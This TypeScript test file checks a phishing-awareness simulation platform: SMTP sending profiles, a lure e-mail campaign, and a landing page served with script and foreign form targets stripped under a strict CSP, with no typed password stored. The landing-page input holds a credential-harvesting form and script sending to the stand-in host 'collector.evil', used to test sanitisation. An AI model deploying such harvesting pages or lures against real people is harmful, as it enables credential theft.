// Learn sending profiles against a real SMTP server on loopback (smtp-server with AUTH): the
// "send test e-mail" action succeeds with the right password and says why with a wrong one; a
// campaign sends with a stored profile and an organisation template; the organisation's landing
// page is served sanitised, under a strict CSP, and what is typed in it is stored nowhere.
import { mkdtempSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { simpleParser } from 'mailparser';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPlatform, type Platform } from '../../src/platform/index.js';
import { buildApp } from '../../src/server/index.js';
import { openStore, type Store } from '../../src/store/index.js';
import { sessionHeaders } from '../support/app.js';

const PASSWORD = 'correct-horse-battery-staple';
const SMTP_PASSWORD = 'smtp-Pa55word-for-relay';
const TYPED = 'Typed-in-org-landing-Secret!';

describe('learn sending profiles over real SMTP', () => {
  let smtp: SMTPServer;
  const received: { to: string; raw: Buffer }[] = [];
  let store: Store;
  let dir: string;
  let platform: Platform;
  let app: FastifyInstance;
  let port: number;
  let now = Date.parse('2026-03-02T09:00:00.000Z');
  let admin: Record<string, string>;

  beforeAll(async () => {
    smtp = new SMTPServer({
      disabledCommands: ['STARTTLS'],
      allowInsecureAuth: true,
      logger: false,
      onAuth(auth, _session, callback) {
        if (auth.username === 'relay' && auth.password === SMTP_PASSWORD) callback(null, { user: 'relay' });
        else callback(Object.assign(new Error('Authentication failed'), { responseCode: 535 }));
      },
      onData(stream, session, callback) {
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          received.push({ to: session.envelope.rcptTo[0]?.address ?? '', raw: Buffer.concat(chunks) });
          callback();
        });
      },
    });
    await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve));
    port = (smtp.server.address() as AddressInfo).port;
    dir = mkdtempSync(join(tmpdir(), 'vigie-learn-profiles-'));
    store = await openStore({ sqliteFile: join(dir, 'vigie.db') });
    platform = createPlatform(store, {
      clock: () => new Date(now),
      learn: { publicUrl: 'https://vigie.test', company: 'ACME', secretKey: 'server-secret-for-the-test' },
    });
    await platform.identity.createUser(
      { username: 'admin', role: 'admin', password: PASSWORD },
      { actor: { kind: 'system' } },
    );
    app = await buildApp({ platform, version: 'test', logger: false });
    await app.ready();
    const res = await app.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { username: 'admin', password: PASSWORD },
    });
    admin = sessionHeaders(res);
  });

  afterAll(async () => {
    await app.close();
    await store.close();
    await new Promise<void>((resolve) => smtp.close(() => resolve()));
  });

  const profile = (password: string) => ({
    name: 'Loopback relay',
    host: '127.0.0.1',
    port,
    tls: 'none',
    username: 'relay',
    password,
    fromAddress: 'helpdesk@acme-it.test',
    fromName: 'Helpdesk',
    headers: [{ name: 'X-Mailer', value: 'Outlook' }],
  });

  it('sends a test e-mail, and reports a refused sign-in with the server answer', async () => {
    const created = await app.inject({
      method: 'POST',
      url: '/api/learn/profiles',
      headers: admin,
      payload: profile(SMTP_PASSWORD),
    });
    expect(created.statusCode, created.body).toBe(200);
    expect(created.json()).toMatchObject({ password: 'set', passwordStorage: 'encrypted' });
    expect(created.body).not.toContain(SMTP_PASSWORD);
    const id = created.json().id as string;
    const list = await app.inject({ method: 'GET', url: '/api/learn/profiles', headers: admin });
    expect(list.json().map((p: { id: string }) => p.id)).toEqual(['env', id]);
    expect(list.body).not.toContain(SMTP_PASSWORD);

    const test = await app.inject({
      method: 'POST',
      url: `/api/learn/profiles/${id}/test`,
      headers: admin,
      payload: { to: 'admin@acme.test' },
    });
    expect(test.json()).toMatchObject({ ok: true, stage: 'send', problem: null });
    const mail = await simpleParser((received.at(-1) as { raw: Buffer }).raw);
    expect(mail.subject).toContain('test');
    expect(mail.from?.value[0]?.address).toBe('helpdesk@acme-it.test');
    expect(mail.headers.get('x-mailer')).toBe('Outlook');

    const wrong = await app.inject({
      method: 'PUT',
      url: `/api/learn/profiles/${id}`,
      headers: admin,
      payload: profile('not-the-password'),
    });
    expect(wrong.statusCode).toBe(200);
    const failed = await app.inject({
      method: 'POST',
      url: `/api/learn/profiles/${id}/test`,
      headers: admin,
      payload: { to: 'admin@acme.test' },
    });
    expect(failed.json()).toMatchObject({ ok: false, stage: 'verify' });
    expect(failed.json().problem).toMatch(/535|auth/i);
    // Back to the right password for the campaign below.
    await app.inject({
      method: 'PUT',
      url: `/api/learn/profiles/${id}`,
      headers: admin,
      payload: profile(SMTP_PASSWORD),
    });
  });

  it('sends a campaign with a stored profile and an organisation template and landing page', async () => {
    const [stored] = (await app.inject({ method: 'GET', url: '/api/learn/profiles', headers: admin }))
      .json()
      .filter((p: { builtIn: boolean }) => !p.builtIn);
    const landing = await app.inject({
      method: 'POST',
      url: '/api/learn/landings',
      headers: admin,
      payload: {
        name: 'Expense portal',
        title: { en: 'Expenses' },
        html: {
          en: '<h1>Expenses</h1><form action="https://collector.evil/x"><input name="user"><input type="password" name="pass"><button>Sign in</button></form><script>document.forms[0].onsubmit=()=>fetch("https://collector.evil")</script>',
        },
      },
    });
    expect(landing.statusCode, landing.body).toBe(200);
    const badTemplate = await app.inject({
      method: 'POST',
      url: '/api/learn/templates',
      headers: admin,
      payload: {
        name: 'x',
        senderName: { en: 'x' },
        subject: { en: 'x' },
        html: { en: 'no link {{nom}}' },
        landing: 'sso-login',
      },
    });
    expect(badTemplate.statusCode).toBe(400);
    expect(
      badTemplate
        .json()
        .details.problems.map((p: { en: string }) => p.en)
        .join(' '),
    ).toMatch(/\{\{nom\}\}/);
    const template = await app.inject({
      method: 'POST',
      url: '/api/learn/templates',
      headers: admin,
      payload: {
        name: 'Expenses',
        senderName: { en: 'Finance' },
        subject: { en: 'Expense report for {{first_name}}' },
        html: { en: '<p>Hi {{first_name}}, <a href="{{link}}">approve</a></p>' },
        landing: landing.json().id,
      },
    });
    expect(template.statusCode, template.body).toBe(200);
    const group = await app.inject({
      method: 'POST',
      url: '/api/learn/groups',
      headers: admin,
      payload: { name: 'One', csv: 'email,first name,last name,department\nzoe@acme.test,Zoe,Z,Finance' },
    });
    const campaign = await app.inject({
      method: 'POST',
      url: '/api/learn/campaigns',
      headers: admin,
      payload: {
        name: 'Org lure',
        groupId: group.json().group.id,
        templates: [template.json().id],
        profileId: stored.id,
        schedule: { start: '2026-03-02T09:00:00Z', end: '2026-03-20T17:00:00Z', window: { startHour: 0, endHour: 24 } },
      },
    });
    expect(campaign.statusCode, campaign.body).toBe(200);
    await app.inject({ method: 'POST', url: `/api/learn/campaigns/${campaign.json().id}/launch`, headers: admin });
    now += 10 * 60_000;
    expect(await platform.learn.sendDue()).toMatchObject({ sent: 1, failed: 0 });
    const message = received.find((r) => r.to === 'zoe@acme.test') as { raw: Buffer };
    const mail = await simpleParser(message.raw);
    expect(mail.subject).toBe('Expense report for Zoe');
    const token = mail.headers.get('x-vigie-simulation') as string;
    expect(mail.html).toContain(`href="https://vigie.test/learn/t/${token}"`);

    const page = await app.inject({ method: 'GET', url: `/learn/t/${token}`, headers: { 'accept-language': 'en' } });
    expect(page.statusCode).toBe(200);
    expect(page.headers['content-security-policy']).toContain("default-src 'none'");
    expect(page.headers['content-security-policy']).toContain("form-action 'self'");
    expect(page.body).toContain(`action="/learn/t/${token}"`);
    expect(page.body).not.toMatch(/collector\.evil|<script/);
    const posted = await app.inject({
      method: 'POST',
      url: `/learn/t/${token}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: `user=zoe&pass=${encodeURIComponent(TYPED)}`,
    });
    expect(posted.statusCode).toBe(303);
    const events = await store.db.selectFrom('learn_events').selectAll().where('type', '=', 'submitted').execute();
    expect(events.map((e) => JSON.parse(e.fields ?? '[]'))).toEqual([['user', 'pass']]);
    // The typed password is in no table of the database.
    for (const table of ['learn_events', 'learn_sends', 'learn_signals', 'learn_custom', 'audit_log'] as const) {
      const rows = await store.db.selectFrom(table).selectAll().execute();
      expect(JSON.stringify(rows)).not.toContain(TYPED);
    }
  });
});
